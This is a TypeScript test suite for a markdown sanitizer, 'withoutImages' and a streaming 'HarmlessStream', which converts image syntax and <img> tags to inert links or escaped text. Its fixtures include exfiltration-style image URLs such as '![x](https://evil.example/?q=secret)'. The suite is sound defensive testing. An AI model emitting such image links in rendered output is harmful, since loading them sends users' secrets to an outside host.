import fc from "fast-check";
import { expect, test } from "vitest";
import { HarmlessStream, withoutImages } from "../../src/core/markdown";

test.each([
  ["![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"],
  ["![a [b] c](http://evil.example)", "[a [b] c](http://evil.example)"],
  ["![x][r]\n\n[r]: http://evil.example", "[x][r]\n\n[r]: http://evil.example"],
  ["![r]\n\n[r]: http://evil.example", "[r]\n\n[r]: http://evil.example"],
  ['<img src="http://evil.example">', '&lt;img src="http://evil.example">'],
  ["a\n```py\n![x](y) <b>\n```\n![x](y)", "a\n```py\n![x](y) <b>\n```\n[x](y)"],
  ["    ```\n![x](y)", "    ```\n[x](y)"],
])("%j", (markdown, harmless) => {
  expect(withoutImages(markdown)).toBe(harmless);
});

test.each([
  "Use `#![allow(x)]` here.",
  "1 < 2 and a<1",
  "<https://example.org>",
  "Really![1]",
  "~~~\n<b>\n~~~",
])("%j stays as it is", (markdown) => {
  expect(withoutImages(markdown)).toBe(markdown);
});

test("once harmless, text stays as it is", () => {
  const text = fc.string({
    unit: fc.constantFrom("!", "[", "]", "(", ")", "<", "a", "`", "~", "\n", " ", ":"),
  });
  fc.assert(
    fc.property(text, (markdown) => {
      const once = withoutImages(markdown);
      expect(withoutImages(once)).toBe(once);
    }),
    { numRuns: 1_000 },
  );
});

test("in pieces, no image comes through either, and nothing is lost", () => {
  const stream = new HarmlessStream();
  const text = "One !\n\n```\n![x](y)\n\n```\n\n![a](http://evil.example)\n\nend";
  const shown =
    text
      .split("")
      .map((letter) => stream.push(letter))
      .join("") + stream.end();
  expect(shown).toBe("One !\n\n```\n![x](y)\n\n```\n\n[a](http://evil.example)\n\nend");
});
